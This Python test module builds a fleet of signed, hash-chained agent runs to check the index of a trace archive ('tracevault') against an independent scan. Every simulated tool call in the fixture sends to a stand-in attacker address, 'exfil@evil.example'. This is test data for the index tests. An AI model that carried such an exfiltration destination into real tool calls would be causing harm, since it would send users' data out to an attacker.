"""A small fleet of runs for the index tests, archived through the archiver's own log writer
(``write_signed_run``), and an independent scan of the archive to compare the index with.

The fleet varies everything the index filters on: agents, tenants (the clear tenant of the
wrapped-key attribute), start days, tools, models, error types, finished, errored and
unfinished runs. The scan reads each run back with the replayer's loader (``archive ls`` to
find them, ``load_from_archive`` to read them), not with the index's own reader.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from tests.replayer.archiving import write_signed_run
from tests.replayer.recording import signed_raws
from tracevault.archive import ObjectStore, list_runs
from tracevault.chain import genesis, link
from tracevault.replayer.load.archive import load_from_archive
from tracevault.schemas import (
    AgentInfo,
    ErrorInfo,
    EventKind,
    SealedEvent,
    TraceEvent,
    canonical_json,
    decode_event,
)

DAY_US = 86_400_000_000
T0 = 1_767_225_600_000_000  # 2026-01-01T00:00:00Z
KEY_ATTR = "tracevault.content.key"


@dataclass(frozen=True)
class Spec:
    run_id: str
    agent: str
    day: int
    tools: tuple[str, ...] = ()
    model: str | None = None
    error: str | None = None  # the run ends in this error type
    tool_error: str | None = None  # a tool call raised this
    finish: bool = True
    tenant: str | None = None
    start: Any = None  # RUN_STARTED's request (default {"input": "go"})


def sealed(spec: Spec) -> list[SealedEvent]:
    """The spec's run as the sequencer seals it, written by an agent holding the session's
    agent key (provenance is required: verify proves who wrote it, docs/identity.md)."""
    agent = AgentInfo(spec.agent, "1.2.0", "host-1", "pytest", "0.1.0")
    at0 = T0 + spec.day * DAY_US + 3_600_000_000
    evs: list[tuple[EventKind, Any, Any, str | None, ErrorInfo | None, dict[str, str]]] = []
    attrs = {}
    if spec.tenant is not None:  # the clear part of a wrapped key (the rest is opaque here)
        attrs[KEY_ATTR] = json.dumps({"tenant": spec.tenant, "kek_id": "k1"})
    start = {"input": "go"} if spec.start is None else spec.start
    evs.append((EventKind.RUN_STARTED, start, None, None, None, attrs))
    if spec.model:
        call = {"messages": ["hi"]}
        evs.append((EventKind.MODEL_CALL, call, {"text": "ok"}, spec.model, None, {}))
    for i, tool in enumerate(spec.tools):
        err = ErrorInfo(spec.tool_error, "secret detail") if spec.tool_error and i == 0 else None
        req = {"tool": tool, "args": {"to": "exfil@evil.example"}}
        evs.append((EventKind.TOOL_CALL, req, None if err else {"sent": True}, None, err,
                    {"duration_us": "1500"}))  # fmt: skip
    if spec.finish:
        err = ErrorInfo(spec.error, "boom") if spec.error else None
        if err is not None:
            evs.append((EventKind.ERROR, {}, None, None, err, {}))
        evs.append((EventKind.RUN_FINISHED, {}, {"output": None if err else "done"}, None, err, {}))
    events = [
        TraceEvent(spec.run_id, seq, kind, at0 + seq * 1000, agent, canonical_json(req),
                   canonical_json(resp), model=model, error=err, attributes=at)
        for seq, (kind, req, resp, model, err, at) in enumerate(evs)
    ]  # fmt: skip
    prev = genesis(spec.run_id)
    out = []
    for seq, raw in enumerate(signed_raws(events)):
        h = link(prev, raw)
        out.append(SealedEvent(spec.run_id, seq, prev, h, raw, at0 + seq, 0, seq, "seq-1"))
        prev = h
    return out


FLEET = (
    Spec("run-mail-1", "mailer", 0, ("send_email",), "gpt-4o", tenant="acme"),
    Spec("run-mail-2", "mailer", 3, ("search", "send_email"), "gpt-4o", tenant="acme"),
    Spec("run-search", "researcher", 1, ("search",), "claude-3", tenant="globex"),
    Spec("run-err", "researcher", 2, ("search",), "claude-3", error="RuntimeError"),
    Spec("run-toolerr", "mailer", 8, ("send_email",), "gpt-4o", tool_error="SMTPError"),
    Spec("run-open", "planner", 9, ("plan",), None, finish=False),
    Spec("run-plain", "planner", 10),
)


def archive_fleet(store: ObjectStore, specs: tuple[Spec, ...] = FLEET) -> None:
    for spec in specs:
        write_signed_run(store, sealed(spec))


def scan(store: ObjectStore) -> dict[str, dict[str, Any]]:
    """run id -> what the archive itself says of it, read without the index."""
    out = {}
    for summary in list_runs(store):
        run = load_from_archive(store, summary.run_id)
        evs = [decode_event(r.raw) for r in run.records]
        tools = {json.loads(e.request)["tool"] for e in evs if e.kind is EventKind.TOOL_CALL}
        last = evs[-1]
        status = "unfinished"
        if last.kind is EventKind.RUN_FINISHED:
            status = "errored" if last.error is not None else "finished"
        out[summary.run_id] = {
            "agent": evs[0].agent.agent_id,
            "started": evs[0].at,
            "tools": tools,
            "models": {e.model for e in evs if e.model},
            "errors": {e.error.type for e in evs if e.error},
            "kinds": {e.kind.value for e in evs},
            "status": status,
            "events": len(evs),
            "tenant": json.loads(evs[0].attributes[KEY_ATTR])["tenant"]
            if KEY_ATTR in evs[0].attributes
            else None,
        }
    return out
